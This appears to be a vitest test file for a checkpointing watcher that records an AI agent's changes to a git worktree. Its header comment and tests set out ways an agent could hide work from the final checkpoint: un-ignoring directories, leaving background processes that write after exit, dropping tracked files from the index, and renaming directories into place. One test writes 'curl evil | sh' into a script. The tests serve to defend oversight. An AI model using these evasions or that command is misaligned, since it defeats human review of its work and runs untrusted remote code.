// h-trial (second round), attacking issue 35's "the final checkpoint lists nothing when the watcher saw
// nothing change": the watcher never enters a directory git ignored when it saw it. An agent that un-ignores
// such a directory (edits .gitignore before it exits) and leaves a process behind that writes there after
// the exit's checkpoint listed the tree got that work into the worktree but out of every checkpoint (the
// final one recorded nothing, so the pushed branch and the policy never saw it).
import fs from 'node:fs'
import path from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'

import { CheckpointTriggers } from '../../src/checkpoints/triggers.js'
import { Git } from '../../src/git/runner.js'
import { makeTempRepo, type TempRepo } from '../helpers/git-repo.js'
import { recordedInHead } from '../helpers/recorded.js'

const repos: TempRepo[] = []
const triggers: CheckpointTriggers[] = []
afterEach(async () => {
  for (const t of triggers.splice(0)) await t.stop()
  for (const repo of repos.splice(0)) repo.cleanup()
})

function watched(): { repo: TempRepo; t: CheckpointTriggers } {
  const repo = makeTempRepo({ files: { '.gitignore': 'dist/\nnode_modules/\n', 'a.txt': 'a\n' } })
  repos.push(repo)
  fs.mkdirSync(path.join(repo.dir, 'dist'))
  fs.writeFileSync(path.join(repo.dir, 'dist/old.js'), 'built\n')
  const git = new Git({ cwd: repo.dir, env: repo.env })
  const t = new CheckpointTriggers({
    root: repo.dir,
    git,
    recordedAmong: recordedInHead(git),
    intervalMs: 0,
    maxChanges: 1000,
    take: async () => undefined,
  })
  triggers.push(t)
  return { repo, t }
}

/** Resolves once `file`'s change event has reached the watcher (the watched root's fs.watch fired). */
function changed(dir: string, file: string): Promise<void> {
  return new Promise((resolve) => {
    const w = fs.watch(dir, (_type, name) => {
      if (name?.toString() === file) {
        w.close()
        resolve()
      }
    })
  })
}

describe('a directory skipped as ignored, then un-ignored by the agent', () => {
  it('ignored at the start: a write into it after the exit listing is not vouched away', async () => {
    const { repo, t } = watched()
    t.start()
    await t.ready()
    // The agent, before it exits: dist/ is no longer ignored (the .gitignore edit is an event, recorded).
    const seen = changed(repo.dir, '.gitignore')
    repo.write('.gitignore', 'node_modules/\n')
    await seen
    const mark = await t.mark() // the exit's checkpoint lists the tree here
    // A process it left behind writes into dist/ afterwards: git would record it.
    fs.writeFileSync(path.join(repo.dir, 'dist/payload.js'), 'hidden work\n')
    expect(await t.quietSince(mark)).toBe(false)
  })

  it('ignored when it appeared mid-session: the same', async () => {
    const { repo, t } = watched()
    t.start()
    await t.ready()
    const seen = changed(repo.dir, 'build')
    repo.write('.gitignore', 'dist/\nbuild/\nnode_modules/\n')
    fs.mkdirSync(path.join(repo.dir, 'build'))
    await seen
    await t.mark() // every event so far classified: build/ was found ignored and skipped
    repo.write('.gitignore', 'dist/\nnode_modules/\n')
    const mark = await t.mark()
    fs.writeFileSync(path.join(repo.dir, 'build/payload.js'), 'hidden work\n')
    expect(await t.quietSince(mark)).toBe(false)
  })

  it('still ignored: quiet, so the optimisation stands (and a skipped directory removed is no doubt)', async () => {
    const { repo, t } = watched()
    t.start()
    await t.ready()
    const mark = await t.mark()
    fs.writeFileSync(path.join(repo.dir, 'dist/more.js'), 'a rebuild\n')
    expect(await t.quietSince(mark)).toBe(true)
  })
})

describe('a directory named like proctor’s own state, deeper than the root', () => {
  it('src/.proctor/ is recorded by git: a write there after the exit listing is not vouched away', async () => {
    const { repo, t } = watched()
    repo.write('src/.proctor/keep.js', 'recorded by every checkpoint\n')
    t.start()
    await t.ready()
    const mark = await t.mark()
    fs.writeFileSync(path.join(repo.dir, 'src/.proctor/payload.js'), 'hidden work\n')
    expect(await t.quietSince(mark)).toBe(false)
  })
})

describe('a watched directory removed and made again at once', () => {
  it('the new directory is watched: a write into it after the exit listing is not vouched away', async () => {
    const { repo, t } = watched()
    repo.write('src/a.ts', 'a\n')
    t.start()
    await t.ready()
    // Both events reach the watcher together: the lstat of `src` then finds a directory it still watches.
    fs.rmSync(path.join(repo.dir, 'src'), { recursive: true })
    fs.mkdirSync(path.join(repo.dir, 'src'))
    const mark = await t.mark()
    fs.writeFileSync(path.join(repo.dir, 'src/payload.ts'), 'hidden work\n')
    expect(await t.quietSince(mark)).toBe(false)
  })
})

describe('a tracked file in an ignored directory, dropped from the agent’s own index', () => {
  it('is still recorded by the checkpoints: a change to it after the exit listing is not vouched away', async () => {
    const repo = makeTempRepo({ files: { '.gitignore': 'build/\n', 'a.txt': 'a\n' } })
    repos.push(repo)
    repo.write('build/run.sh', 'make\n')
    repo.git(['add', '-f', 'build/run.sh'])
    repo.git(['commit', '-qm', 'a tracked script in an ignored directory'])
    // The checkpoints' tree holds what the baseline holds (HEAD's, here).
    // The agent, in its first second: build/run.sh out of its own index; build/ now looks ignored as a whole.
    repo.git(['rm', '-q', '--cached', 'build/run.sh'])
    const git = new Git({ cwd: repo.dir, env: repo.env })
    const t = new CheckpointTriggers({
      root: repo.dir,
      git,
      intervalMs: 0,
      maxChanges: 1000,
      take: async () => undefined,
      recordedAmong: recordedInHead(git),
    })
    triggers.push(t)
    t.start()
    await t.ready()
    const mark = await t.mark()
    fs.writeFileSync(path.join(repo.dir, 'build/run.sh'), 'curl evil | sh\n')
    expect(await t.quietSince(mark)).toBe(false)
  })
})

describe('what held', () => {
  it('a chmod +x alone after the exit listing (git records the mode) is seen', async () => {
    const { repo, t } = watched()
    t.start()
    await t.ready()
    const mark = await t.mark()
    fs.chmodSync(path.join(repo.dir, 'a.txt'), 0o755)
    expect(await t.quietSince(mark)).toBe(false)
  })

  it('a directory renamed into place after the exit listing is seen', async () => {
    const { repo, t } = watched()
    fs.mkdirSync(path.join(repo.dir, '..', `${path.basename(repo.dir)}-prepared`))
    const prepared = path.join(repo.dir, '..', `${path.basename(repo.dir)}-prepared`)
    fs.writeFileSync(path.join(prepared, 'work.ts'), 'prepared outside\n')
    t.start()
    await t.ready()
    const mark = await t.mark()
    fs.renameSync(prepared, path.join(repo.dir, 'lib'))
    expect(await t.quietSince(mark)).toBe(false)
  })
})
